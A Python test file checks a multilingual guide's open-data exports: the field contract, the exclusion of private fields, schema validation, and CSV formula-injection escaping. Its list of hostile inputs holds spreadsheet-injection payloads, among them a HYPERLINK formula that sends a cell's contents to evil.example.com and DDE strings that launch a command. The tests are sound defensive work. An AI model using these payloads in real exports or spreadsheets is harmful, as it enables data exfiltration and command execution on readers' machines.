"""The open data: fields are a promise, private ones stay out, and no text harms whoever opens it."""

from __future__ import annotations

import csv
import json
import re
from pathlib import Path
from typing import Any

import pytest
import yaml
from guide import language
from guide.catalogue import Catalogue, catalogue_of
from guide.models import KINDS
from guide.models.base import Model, published_fields
from guide.outputs import open_data, open_data_schema
from guide.outputs.open_data_csv import safe
from guide.pages import Site, Telling
from guide.source import parse
from jsonschema import Draft202012Validator

ROOT = Path(__file__).resolve().parents[2]
CASES = ROOT / "tests" / "cases"
LANGUAGES = language.load()
CODES = [one.code for one in LANGUAGES]
PRIVATE = re.compile(r"maintainers|never (?:on a page|shown)", re.IGNORECASE)
"""How a description says that a field is not for readers."""


def told(catalogue: Catalogue) -> dict[str, str]:
    """The files of a catalogue, by the last part of their address."""
    site = Site("https://guide.example.org/", dict.fromkeys(CODES, "A guide"), dict.fromkeys(CODES, "What it is."))
    files = open_data.files([Telling(catalogue, one, LANGUAGES, site) for one in LANGUAGES])
    return {file.address.split("/")[-1]: str(file.content) for file in files}


def small(**changes: Any) -> Catalogue:
    """The small catalogue with these fields of its first resource changed."""
    value = parse((CASES / "small.yaml").read_bytes(), file="small.yaml").value
    value["resources"][0] |= changes
    return catalogue_of(parse(yaml.safe_dump(value, allow_unicode=True, default_style='"'), file="f.yaml"), LANGUAGES.english_names)


# The contract.


def _type(schema: dict[str, Any]) -> str:
    """A type as the contract writes it."""
    if "$ref" in schema:
        return schema["$ref"].split("/")[-1]
    if "enum" in schema:
        return "word"
    if schema["type"] == "array":
        return f"list of {_type(schema['items'])}"
    if schema["type"] == "object":
        assert list(schema["properties"]) == CODES
        return f"{_type(schema['properties'][CODES[0]])} by language"
    if schema.get("format") == "date":
        return "date"
    return {"string": "text", "integer": "number"}[schema["type"]]


def _fields(name: str, schema: dict[str, Any]) -> dict[str, str]:
    if list(schema["properties"]) == CODES:
        return {name: _type(schema)}
    found = {}
    for field, one in schema["properties"].items():
        path = f"{name}.{field}"
        inner = one.get("items", one)
        if "properties" in inner and list(inner["properties"]) != CODES:
            found |= _fields(path, inner)
        else:
            found[path] = _type(one) + ("" if field in schema["required"] else ", or left out")
    return found


def _columns(language: str) -> list[str]:
    """The columns of the table, each of those that every language has once, with `language` in place of the code."""
    header = next(csv.reader(told(small())["catalogue.csv"].removeprefix("\ufeff").splitlines()))
    return list(dict.fromkeys(re.sub(rf"_({'|'.join(CODES)})$", language, name) for name in header))


def test_fields_only_come_and_each_version_says_which():
    schema = open_data_schema.schema("https://guide.example.org/data/schema.json", open_data.VERSION, CODES)
    found = _fields("catalogue", schema)
    for name, definition in schema["$defs"].items():
        found |= _fields(name, definition)
    found |= {f"column {name}": "text" for name in _columns("_*")}
    versions = yaml.safe_load((CASES / "data-contract.yaml").read_text(encoding="utf-8"))
    promised = {field: kind for fields in versions.values() for field, kind in fields.items()}
    gone = {field: kind for field, kind in promised.items() if found.get(field) != kind}
    assert not gone, "The open data promised these, and they are gone or of another type. Whoever reads the files would break."
    new = {field: kind for field, kind in found.items() if field not in promised}
    assert not new, "These are new. Mark them as Unpublished, or add them to data-contract.yaml under a new version."
    assert list(versions)[-1] == open_data.VERSION
    assert len({version.split(".")[0] for version in versions}) == 1


def test_the_pages_about_the_data_name_the_version_and_every_column():
    for code in CODES:
        page = (ROOT / "docs" / "about" / f"data.{code}.md").read_text(encoding="utf-8")
        assert f" {open_data.VERSION}." in page
        explained = [name for names in re.findall(r"(?m)^- ((?:`[a-z]+`(?:, )?)+): ", page) for name in re.findall("[a-z]+", names)]
        assert sorted(explained) == sorted(_columns(""))
        assert open_data.LICENSE["url"].removeprefix("https://").rstrip("/") in page


# What stays out.


def _models(model: type[Model]) -> list[type[Model]]:
    return [model, *(found for child in model.__subclasses__() for found in _models(child))]


@pytest.mark.parametrize("model", _models(Model), ids=lambda model: model.__name__)
def test_what_is_described_as_not_for_readers_is_marked(model):
    private = {name for name, field in model.model_fields.items() if PRIVATE.search(field.description or "")}
    assert private & set(published_fields(model)) == set()


def test_what_is_marked_is_in_none_of_the_files():
    files = told(small())
    marked = {name for kind in KINDS for name in kind.model.model_fields if name not in published_fields(kind.model)}
    assert {"evidence", "sources", "readability_waiver", "search_terms"} <= marked
    assert not [name for name in marked for text in files.values() if f'"{name}"' in text]
    assert "State glossary of 2020" not in "".join(files.values())


def test_the_files_hold_no_time():
    assert told(small()) == told(small())


# The schema.


def test_the_schema_is_one_and_describes_every_field_in_full():
    schema = json.loads(told(small())["schema.json"])
    Draft202012Validator.check_schema(schema)
    for name, definition in schema["$defs"].items():
        assert definition["description"].endswith("."), name
        if list(definition["properties"]) != CODES:
            assert [field for field, one in definition["properties"].items() if not one.get("description", "").endswith((".", "`"))] == [], name


@pytest.mark.parametrize(
    ("field", "value"),
    [("status", "gone"), ("added", "2026-02-30"), ("links", "none"), ("title", {"en": "One"}), ("published", "May 2017"), ("topics", ["Two words"])],
)
def test_the_schema_finds_fault_with_what_is_wrong(field, value):
    files = told(small())
    data = json.loads(files["catalogue.json"])
    check = Draft202012Validator(json.loads(files["schema.json"]), format_checker=Draft202012Validator.FORMAT_CHECKER)
    assert check.is_valid(data)
    data["resources"][0][field] = value
    assert not check.is_valid(data)


def test_an_older_copy_of_the_schema_accepts_a_newer_catalogue():
    files = told(small())
    data = json.loads(files["catalogue.json"])
    data["resources"][0]["mood"] = data["mood"] = "good"
    data["resources"][0]["title"]["fr"] = "Un"
    assert Draft202012Validator(json.loads(files["schema.json"])).is_valid(data)


# Texts that could do harm.

HOSTILE = [
    "x" * 300,
    "A calendar 📅 for all 👩🏽",
    "تقويم الحضور المدرسي",
    "5 < 6 & \"seven\", 'eight'; nine | ten \\ eleven",
    "It ends < / script> ]]> --> here",
    "#N/A",
    '","',
    "'quoted'",
]
FORMULAS = [
    '=HYPERLINK("https://evil.example.com/?x="&A1,"Click")',
    "=cmd|' /C calc'!A0",
    "+1-800-555-0100",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(A1:A9)",
    "＝1+1",
    "=1+1;=2+2",
]


def _row(files: dict[str, str]) -> dict[str, str]:
    lines = files["catalogue.csv"]
    assert lines.startswith("\ufeff")
    assert lines.endswith("\r\n")
    rows = list(csv.DictReader(lines.removeprefix("\ufeff").splitlines(keepends=True), strict=True))
    return next(row for row in rows if row["id"] == "attendance-calendar")


@pytest.mark.parametrize("text", [*HOSTILE, *FORMULAS])
def test_every_text_comes_out_of_both_files_as_it_went_in(text):
    files = told(small(title={"en": text, "es": text}, summary={"en": text, "es": text}))
    entry = next(one for one in json.loads(files["catalogue.json"])["resources"] if one["id"] == "attendance-calendar")
    assert entry["title"] == entry["summary"] == {"en": text, "es": text}
    assert files["catalogue.json"].count("\n") == told(small())["catalogue.json"].count("\n")
    row = _row(files)
    expected = f"'{text}" if text in FORMULAS else text
    assert [row["title_en"], row["title_es"], row["summary_en"], row["summary_es"]] == [expected] * 4


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠"])
def test_no_cell_begins_like_a_formula(start):
    assert safe(f"{start}1") == f"'{start}1"
    assert safe(f"1{start}") == f"1{start}"


def test_links_of_a_text_are_addresses_that_any_reader_can_follow():
    data = json.loads(told(small())["catalogue.json"])
    entry = next(one for one in data["resources"] if one["id"] == "attendance-calendar")
    assert "[Every day counts](https://guide.example.org/myths/every-day-counts/)" in entry["why"]["en"]
    assert "[Cada día cuenta](https://guide.example.org/es/myths/every-day-counts/)" in entry["why"]["es"]
    topic = next(one for one in data["topics"] if one["id"] == "well-being")
    assert topic["notice"]["en"].endswith("[988](tel:988).")
